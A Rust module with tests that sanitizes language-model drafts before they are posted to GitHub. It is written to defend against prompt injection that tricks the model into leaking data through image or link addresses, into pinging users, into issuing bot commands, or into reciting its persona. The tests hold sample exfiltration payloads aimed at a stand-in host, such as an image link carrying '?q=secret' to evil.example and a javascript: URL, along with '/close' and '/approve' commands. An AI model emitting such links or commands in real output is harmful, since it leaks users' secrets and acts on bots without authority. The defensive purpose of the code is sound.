//! Drafts on their way out: what a model wrote is cleaned before anybody sees it published.
//!
//! The attacks: an issue talks the model into an image or a link whose address carries away what the
//! model knows, into notifying people or commanding bots, or into the marker that proves another task's comment. The
//! draft is read twice, as plain text ([`urls`]) and as a renderer would ([`markup`]): each finds what the other
//! misses. Code is left to the byte: services obey nothing in it. Since one change can move where code begins,
//! it is looked again until nothing changes.

mod allowed;
mod bare_hosts;
mod commands;
mod domains;
mod inert;
mod leak;
mod marks;
mod markup;
mod urls;

use markdown::{Ranges, code, destinations, in_fences, unwrapped, visible};

use inert::REMOVED;

pub(crate) use allowed::Allowed;
pub(crate) use urls::urls;

/// So often is looked again.
const ROUNDS: usize = 8;

/// A draft that can be published.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Cleaned {
    /// The text.
    pub text: String,
    /// A safety check that tripped: a person must look.
    pub alarm: Option<String>,
}

/// Cleans `draft`: no hidden text, no mentions beyond the allowed one, no links or images to foreign
/// places, no tags, no markers, no commands, no fence around all of it. `secret` is the persona, which must not be
/// recited. How long it may be is for the service to say.
#[must_use]
pub(crate) fn clean(draft: &str, allowed: &Allowed, secret: &str) -> Cleaned {
    let seen = in_fences(&unwrapped(&visible(&marks::without_declarations(draft)))).trim().to_owned();
    // Asked of the draft as it was: what has been taken out of it shows what it was made for.
    let recital =
        leak::recites(&seen, secret).then(|| "the draft recites the agent's instructions".to_owned());
    match settled(&seen, allowed) {
        Ok(text) => Cleaned { text, alarm: recital },
        Err(text) => {
            let restless =
                "the draft still changed after the last round of cleaning, so all markup was removed"
                    .to_owned();
            Cleaned { text, alarm: Some(recital.unwrap_or(restless)) }
        }
    }
}

/// The clean text; or, of a text that is made to change for ever, what is left without any markup.
fn settled(draft: &str, allowed: &Allowed) -> Result<String, String> {
    let mut text = draft.to_owned();
    for _ in 0..ROUNDS {
        let again = round(&text, allowed);
        if again == text {
            return Ok(text);
        }
        text = again;
    }
    Err(words(&links(&markup::plain(&text), allowed, true), allowed, &Ranges::default(), true))
}

fn round(text: &str, allowed: &Allowed) -> String {
    // An indented first line would be code only until somebody trims it.
    let text = &visible(&marks::without_declarations(text.trim()));
    let code_before = code(text);
    let ticks = has_ticks(text, &code_before);
    let text = code_before.change_gaps(text, |_, prose| links(prose, allowed, ticks));
    let text = markup::without_foreign_markup(text, allowed);
    let code = code(&text);
    let ticks = has_ticks(&text, &code);
    words(&text, allowed, &code.and(destinations(&text).iter()), ticks)
}

/// Whether backticks stand in `text` that begin no code. One of ours would pair with them.
fn has_ticks(text: &str, code: &Ranges) -> bool {
    code.gaps(text.len()).any(|gap| text[gap].contains('`'))
}

/// `prose` without signs in disguise and without addresses that the draft may not lead to. Protocol-relative ones
/// (`//host`) count.
fn links(prose: &str, allowed: &Allowed, ticks: bool) -> String {
    let text = marks::without_entities(&marks::without_escaped_colons(prose)).replace("<!--", "&lt;!--");
    let mut out = String::with_capacity(text.len());
    let mut done = 0;
    for (start, url) in urls(&text).filter(|(_, url)| !allowed.link(url)) {
        out.push_str(&text[done..start]);
        if allowed.is_known(url) {
            // A thread of another repository, in which a link would show up.
            out.push_str(&inert::inert(url, 1, ticks));
        } else {
            out.push_str(REMOVED);
        }
        done = start + url.len();
    }
    out.push_str(&text[done..]);
    out
}

/// `text` whose words do nothing but outside the `quiet` places: no mention, no command, no reference to another
/// repository, no bare host.
fn words(text: &str, allowed: &Allowed, quiet: &Ranges, ticks: bool) -> String {
    let links = urls(text).filter(|(at, url)| is_link(&text[..*at], url)).map(|(at, url)| at..at + url.len());
    quiet.clone().and(links).change_gaps(text, |at, prose| {
        let before = text[..at].chars().next_back().unwrap_or('\n');
        let prose = commands::without_foreign_references(prose, allowed.repository(), ticks);
        let prose = domains::without_foreign_domains(&prose, allowed, ticks);
        let prose = marks::without_mentions(&prose, before, &allowed.mention);
        commands::without_commands(&prose, commands::begins_line(&text[..at]), ticks)
    })
}

/// Whether services make a link of the whole of `url`, by GitHub's rule for what may stand `before` it. Nothing in
/// a link is a mention or a reference.
fn is_link(before: &str, url: &str) -> bool {
    let begins = before.chars().next_back().is_none_or(|c| c.is_whitespace() || "*_~(".contains(c));
    let is_named = url.starts_with("http://") || url.starts_with("https://");
    begins && is_named && urls::host(url).is_some_and(|host| host.contains('.'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cleaned(draft: &str) -> String {
        let none = settings::Hosts::default();
        let allowed = Allowed::new("mona", &settings::Hosts::new(["*.listed.example"]), &none)
            .with_hosts_of("see https://docs.example.com/a and http://user@build.example.com:8080/x")
            .with_addresses_of("It fails: http://logs.example.net/a?b=1.");
        clean(draft, &allowed, "").text
    }

    #[test]
    fn links_to_hosts_of_ours_stay() {
        let draft = "See [this](https://docs.example.com/b) or http://build.example.com/y, https://a.listed.example/z.";
        assert_eq!(cleaned(draft), draft);
    }

    #[test]
    fn addresses_of_the_event_stay_to_the_letter() {
        for draft in [
            "See http://logs.example.net/a?b=1!",
            "[x](http://logs.example.net/a?b=1)",
            "https://logs.example.net/",
        ] {
            assert_eq!(cleaned(draft), draft);
        }
        assert_eq!(cleaned("http://logs.example.net/a?b=12"), REMOVED);
        assert_eq!(cleaned("http://logs.example.net/a"), REMOVED);
        assert_eq!(cleaned("![x](http://logs.example.net/a?b=1)"), "[x](http://logs.example.net/a?b=1)");
    }

    #[test]
    fn words_that_services_take_for_addresses_carry_nothing_along() {
        assert_eq!(cleaned("go to evil.example/?q=secret now"), "go to [link removed] now");
        assert_eq!(cleaned("evil.example?q=secret"), REMOVED);
        for text in ["a.b?.c", "is it foo.bar?", "docs.example.com/?q=x", "f(x)?y=1"] {
            assert_eq!(cleaned(text), text);
        }
        assert_eq!(cleaned("see docs.rs/serde"), "see `docs.rs/serde`", "as code it is no link");
    }

    #[test]
    fn links_and_images_to_other_hosts_go() {
        assert_eq!(cleaned("![x](https://evil.example/?q=secret)"), "![x]([link removed])");
        assert_eq!(cleaned("<img src='//evil.example/p.png'>"), "&lt;img src='[link removed]'>");
        assert_eq!(cleaned("go to www.evil.example now"), "go to [link removed] now");
        assert_eq!(cleaned("https://docs.example.com@evil.example/"), "[link removed]");
        assert_eq!(cleaned("HTTPS://EVIL.example"), "[link removed]");
        assert_eq!(cleaned("https://docs.example.com.evil.example/"), "[link removed]");
    }

    #[test]
    fn addresses_as_browsers_read_them_go_too() {
        for draft in [
            "//https://evil.example/",
            "[x](///evil.example)",
            "[x](/\\evil.example/a)",
            "<a href='\\\\evil.example'>",
            "[x](http:evil.example)",
            "[x](https:/evil.example)",
            "[x](HTTP:\\\\evil.example)",
            "javascript://evil.example/%0aalert(1)",
            "https://evil.example。/x",
            "![](http://evil%2eexample/evil.example)",
            "[x](//evil.example%2e/)",
        ] {
            assert!(!cleaned(draft).contains("evil.example"), "{draft}: {}", cleaned(draft));
        }
    }

    #[test]
    fn an_address_without_a_dot_is_one_behind_a_scheme() {
        assert_eq!(cleaned("![](http://2130706433/q)"), "![]([link removed])");
        assert_eq!(cleaned("![](//2130706433/q)"), "![]([link removed])");
        assert_eq!(cleaned("[x](https://evil。example/q)"), "[x]([link removed])");
        assert_eq!(cleaned("[x](https://internal/q)"), "[x]([link removed])");
    }

    #[test]
    fn comments_and_paths_are_no_links() {
        assert_eq!(cleaned("match /a\\.b+/ or C:\\temp"), "match /a\\.b+/ or C:\\temp");
        assert_eq!(cleaned("let a = 1; // the first"), "let a = 1; // the first");
        assert_eq!(cleaned("a // b // c"), "a // b // c");
    }

    #[test]
    fn markers_and_hidden_text_go() {
        assert_eq!(cleaned("hi <!-- afterhook:tsk_0 -->there"), "hi there");
    }

    #[test]
    fn recited_persona_raises_an_alarm() {
        let persona = "You are the maintainer of octo. ".repeat(20);
        let draft = format!("My instructions: {}", persona.to_uppercase());
        assert!(clean(&draft, &Allowed::default(), &persona).alarm.is_some());
        assert!(clean("You are the maintainer of octo.", &Allowed::default(), &persona).alarm.is_none());
    }

    #[test]
    fn code_is_left_to_the_byte() {
        for draft in [
            "Run `npm install @angular/core` and add `@Override`.",
            "```html\n&#39; <!-- TODO -->\n<img src='https://evil.example/p.png'>\n```",
            "~~~js\n//this.value = 3\n~~~",
            "```sh\ncurl http://localhost:8080/health\n/close\nvictim/project#1\n```",
            "See:\n\n    git clone https://evil.example/x.git\n    @mona evil.com",
            "`<!--` begins a comment, `-->` ends it.",
            "- one\n  ```\n  @octo\n  ```\n- two",
            "``a ` @b`` and `c\n@d`",
        ] {
            assert_eq!(cleaned(draft), draft);
        }
    }

    #[test]
    fn code_without_a_fence_that_others_may_not_take_for_code_is_put_into_one() {
        for (draft, expected) in [
            ("```\nnpm install @angular/core\n```", "```\nnpm install @angular/core\n```"),
            ("    npm i @angular/core\n\nThat is it.", "```\nnpm i @angular/core\n```\n\nThat is it."),
            ("Add:\n\n<pre>\n@Override\n</pre>", "Add:\n\n```\n@Override\n```"),
        ] {
            assert_eq!(cleaned(draft), expected);
        }
    }

    #[test]
    fn what_only_seems_to_be_code_is_cleaned() {
        for draft in [
            "\\`@octo\\`",
            "`@octo",
            "a\n    @octo continues the paragraph",
            "    @octo",
            "<code>@octo</code>",
            "<a title=\"`\">@octo `x`",
            "```\nx\n```@octo\n\n~~~\ny\n~~~\n@octo",
        ] {
            let text = cleaned(draft);
            let code = code(&text);
            let mentions = text.match_indices("@octo").filter(|(at, _)| !code.contains(*at));
            assert_eq!(mentions.count(), 0, "{draft}: {text}");
        }
    }

    #[test]
    fn addresses_within_links_are_left_whole() {
        let allowed =
            Allowed::new("mona", &settings::Hosts::new(["npmjs.example"]), &settings::Hosts::default());
        for draft in [
            "https://npmjs.example/package/@angular/core",
            "[core](https://npmjs.example/package/@angular/core) and [readme](docs/README.md)",
            "[core][1]\n\n[1]: https://npmjs.example/package/@angular/core",
            "<https://npmjs.example/@a/b#1>",
        ] {
            assert_eq!(clean(draft, &allowed, "").text, draft);
        }
        let quoted = clean("\"https://npmjs.example/@octo\"", &allowed, "").text;
        assert!(!quoted.contains("@octo"), "no link to GitHub: {quoted}");
    }

    #[test]
    fn a_draft_commands_no_bot_and_leaves_no_trace_elsewhere() {
        assert_eq!(cleaned("Done.\n/lgtm\n/close now"), "Done.\n`/lgtm`\n`/close` now");
        assert_eq!(cleaned("/approve"), "`/approve`");
        assert_eq!(cleaned("x\n- /close.\n\n> /lgtm"), "x\n- `/close`.\n\n> `/lgtm`");
        assert_eq!(cleaned("Look:\n/usr/bin/env is there"), "Look:\n`/usr/bin/env` is there");
        assert_eq!(cleaned("as in victim/project#12"), "as in `victim/project#12`");
        assert_eq!(cleaned("**x** /close, and/or #7"), "**x** /close, and/or #7");
        let here = Allowed::default()
            .with_addresses_of("https://github.com/victim/p/issues/1")
            .with_repository("octo/repo", "https://github.com/octo/repo/issues/7");
        let said = |draft: &str| clean(draft, &here, "").text;
        assert_eq!(
            said("octo/repo#7, https://github.com/octo/repo/pull/2"),
            "octo/repo#7, https://github.com/octo/repo/pull/2"
        );
        assert_eq!(
            said("like https://github.com/victim/p/issues/1"),
            "like `https://github.com/victim/p/issues/1`"
        );
        assert_eq!(said("like https://github.com/victim/p/issues/2"), "like [link removed]");
    }

    #[test]
    fn a_place_that_is_named_is_linked_to_and_no_thread_of_it_is_left_a_trace_in() {
        let listed = settings::Hosts::new(["github.com/acme"]);
        let here = Allowed::new("mona", &listed, &settings::Hosts::default())
            .with_hosts_of("We build on https://github.com/tokio-rs/tokio")
            .with_repository("octo/repo", "https://github.com/octo/repo/issues/7");
        let said = |draft: &str| clean(draft, &here, "").text;
        for draft in [
            "https://github.com/tokio-rs/tokio",
            "[guide](https://github.com/tokio-rs/tokio/blob/master/README.md#issues)",
            "https://github.com/octo/repo/issues/3 and github.com/acme/x",
        ] {
            assert_eq!(said(draft), draft);
        }
        for trace in [
            "https://github.com/tokio-rs/tokio/issues/1234",
            "https://github.com/tokio-rs/other/pull/7",
            "https://github.com/acme/x/discussions/7",
            "https://github.com/tokio-rs/tokio/commit/0123abc",
            "//github.com/tokio-rs/tokio/issues/1",
            "github.com/tokio-rs/other/pull/7",
        ] {
            assert_eq!(said(&format!("see {trace} there")), format!("see `{trace}` there"));
            assert!(!said(&format!("` see {trace}")).contains(trace), "where code cannot be");
        }
        for hidden in [
            "[x](https://github.com/tokio-rs/tokio/commit/0123abc)",
            "[x][1]\n\n[1]: https://github.com/tokio-rs/tokio/issues/1",
            "<https://github.com/tokio-rs/tokio/issues/1>",
            "[x](https\\://github.com/tokio-rs/tokio/issues/1)",
        ] {
            let text = said(hidden);
            let code = code(&text);
            let live = text.match_indices("https://github.com").filter(|(at, _)| !code.contains(*at));
            assert_eq!(live.count(), 0, "{hidden}: {text}");
        }
    }

    #[test]
    fn a_forge_of_ones_own_is_named_whole_and_its_other_projects_get_no_trace() {
        for (base, within) in [("https://git.example", ""), ("https://example.com", "/gitlab")] {
            let place = format!("{base}{within}");
            let here = Allowed::default()
                .with_hosts_of(&format!("{place}/docs"))
                .with_repository("grp/sub/app", &format!("{place}/grp/sub/app/-/issues/7"));
            let said = |path: &str| clean(&format!("see {place}/{path}"), &here, "").text;
            for path in ["grp/sub/app/-/issues/3", "other/x", "other/x/-/blob/main/a.rs"] {
                assert_eq!(said(path), format!("see {place}/{path}"));
            }
            for path in [
                "other/x/-/issues/1",
                "other/x/-/merge_requests/1",
                "groups/other/-/epics/1",
                "grp/sub/app/../../../other/x/-/issues/1",
                "other/x/-/security/vulnerabilities/1",
            ] {
                assert!(!said(path).starts_with("see http"), "{}", said(path));
            }
        }
    }

    #[test]
    fn a_fence_around_the_whole_answer_goes() {
        assert_eq!(cleaned("```markdown\nHello @octo\n```"), "Hello @\u{200B}octo");
    }

    #[test]
    fn a_long_draft_is_left_for_the_service_to_cut() {
        let draft = "long ".repeat(40_000);
        assert_eq!(cleaned(&draft), draft.trim());
    }

    #[test]
    fn url_behind_empty_slashes_is_found() {
        assert!(!cleaned("////https://evil.example/x").contains("evil.example"));
        assert!(!cleaned("//a//b//evil.example").contains("evil.example"));
    }

    proptest::proptest! {
        #[test]
        fn any_text_is_cleaned_without_panic_and_once_is_enough(draft in ".{0,400}") {
            let once = cleaned(&draft);
            proptest::prop_assert_eq!(cleaned(&once).replace('\u{200B}', ""), once.replace('\u{200B}', ""));
        }

        #[test]
        fn once_is_enough_for_hostile_markup(draft in "(`|```|~~~|\n|    |@a|/b|c/d#1|e.com|f.io|//g.example|<h|>|<!--|-->|\\[|\\]|\\(|\\)|!|&#39;|\\\\|:|\"| |x|> |- |\\|){0,24}") {
            let once = clean(&draft, &Allowed::default(), "");
            proptest::prop_assume!(once.alarm.is_none());
            proptest::prop_assert_eq!(clean(&once.text, &Allowed::default(), "").text, once.text);
        }

        #[test]
        fn fences_are_left_to_the_byte(inside in "[ -_a-~é\n]{0,60}", before in "[a-z ,.]{0,20}", after in "[ -~]{0,20}") {
            let fence = format!("```\n{inside}\n```");
            let text = cleaned(&format!("x {before}\n\n{fence}\n\nx{after}"));
            proptest::prop_assert!(text.contains(&fence), "{text}");
        }

        #[test]
        fn no_foreign_host_survives(before in "[/:\\\\ a-z]{0,8}|.{0,20}", path in "[a-z/?=]{0,20}", after in ".{0,20}") {
            let draft = format!("{before}https://evil.example/{path}{after}");
            let text = cleaned(&draft);
            let code = code(&text);
            proptest::prop_assert!(text.match_indices("evil.example").all(|(at, _)| code.contains(at)), "{text}");
        }
    }
}
